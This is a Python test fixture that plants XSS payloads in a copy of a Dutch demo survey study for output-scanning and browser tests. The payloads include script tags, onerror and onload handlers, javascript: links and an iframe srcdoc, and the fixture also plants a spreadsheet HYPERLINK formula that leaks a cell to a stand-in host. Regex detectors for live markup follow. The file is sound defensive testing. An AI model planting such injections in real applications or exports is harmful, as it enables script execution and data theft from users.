"""Plant script, markup and formula payloads in a copy of the Dutch demo study, the way a hostile
respondent, participant or shared study folder could: in open answers, a choice option that
persona names and cards show, a transcript turn and the study's name.

Used by the output scan (tests/test_xss_outputs.py) and the browser test
(tests/browser/test_xss_in_lab.py). Every payload sets ``window.__wbXss`` or opens a dialog if it
ever runs.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

PAYLOADS = [
    '<script>window.__wbXss = 1; alert("xss-script")</script>',
    '<img src=x onerror="window.__wbXss = 2; alert(2)">',
    '<svg onload="window.__wbXss = 3; alert(3)"></svg>',
    "[klik hier](javascript:window.__wbXss=4)",
    '<a href="javascript:window.__wbXss=5">link</a>',
    "<iframe srcdoc=\"<script>parent.__wbXss=6</script>\"></iframe>",
]
FORMULA_START = "="
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")'
OPTION_PAYLOAD = '<img src=x onerror="window.__wbXss = 7; alert(7)">'


def plant(target: Path, source: Path = ROOT / "surveys" / "webshop-nl") -> Path:
    """Copy ``source`` to ``target`` (no store) and plant the payloads; return ``target``."""
    shutil.copytree(source, target, ignore=shutil.ignore_patterns(".workbench"))
    toml = target / "study.toml"
    text = toml.read_text(encoding="utf-8")
    text = re.sub(r'^name = "(.*)"$', r'name = "\1 <img src=x onerror=alert(9)>"', text, count=1, flags=re.M)
    toml.write_text(text, encoding="utf-8")

    export = target / "survey" / "qualtrics_export.csv"
    raw = export.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    head = rows[0]
    q10_5, q2 = head.index("Q10_5"), head.index("Q2")
    for i, row in enumerate(rows[3:]):
        if i < 40:  # open answers that are pain points, carrying a payload each
            payload = PAYLOADS[i % len(PAYLOADS)] if i % 7 else FORMULA
            row[q10_5] = f"De levering was veel te laat {payload} en de klantenservice reageerde niet."
        if row[q2] == "Vrouw":  # a choice option shown on persona cards (and maybe in their names)
            row[q2] = f"Vrouw {OPTION_PAYLOAD}"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    export.write_text("\ufeff" + buf.getvalue(), encoding="utf-8")

    p02 = target / "interviews" / "P02.txt"
    lines = p02.read_text(encoding="utf-8").rstrip("\n").split("\n")
    lines.insert(len(lines) - 2, "[00:13:50] Mark: Het bezorgen was echt slecht geregeld "
                 + PAYLOADS[1] + " en de chauffeur kwam veel te laat.")
    p02.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return target


_RAW = [
    re.compile(r"<script(?![^>]*>\s*\(function\(\)\{var s=document)", re.I),  # any script but the map's own
    re.compile(r"<img\b", re.I),
    re.compile(r"<svg\b[^>]*\bonload", re.I),
    re.compile(r"<iframe\b", re.I),
    re.compile(r"""<a\b[^>]*href\s*=\s*["']?\s*javascript:""", re.I),
]
_MD_LINK = re.compile(r"(?<!\\)\]\(\s*javascript:", re.I)  # a Markdown link to javascript:


def live_markup(text: str, *, markdown: bool = False) -> list[str]:
    """The payload markup in ``text`` that a browser (or, with ``markdown``, a Markdown renderer)
    would act on."""
    found = [m.group(0) for rx in _RAW for m in rx.finditer(text)]
    if markdown:
        found += [m.group(0) for m in _MD_LINK.finditer(text)]
    return found
